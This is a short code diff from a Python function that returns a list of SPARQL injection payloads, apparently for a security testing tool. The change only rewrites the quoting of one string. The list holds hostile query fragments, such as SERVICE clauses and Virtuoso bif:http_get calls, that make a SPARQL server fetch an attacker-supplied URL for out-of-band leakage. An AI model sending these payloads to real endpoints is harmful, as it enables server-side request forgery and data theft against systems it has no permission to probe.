@@ -56,7 +56,7 @@ def payloads(target: str) -> list[str]:
         f"OPTIONAL {{ SERVICE <{target}sparql> {{ }} }}",
         f"BIND(<{target}f>(?s) AS ?leak)",
         f"FILTER(<bif:http_get>('{target}x'))",
-        f"BIND(<bif:http_get>(\"{target}x\") AS ?page)",
+        f'BIND(<bif:http_get>("{target}x") AS ?page)',
         f"FILTER EXISTS {{ SERVICE <{target}sparql> {{ }} }}",
     ]
 
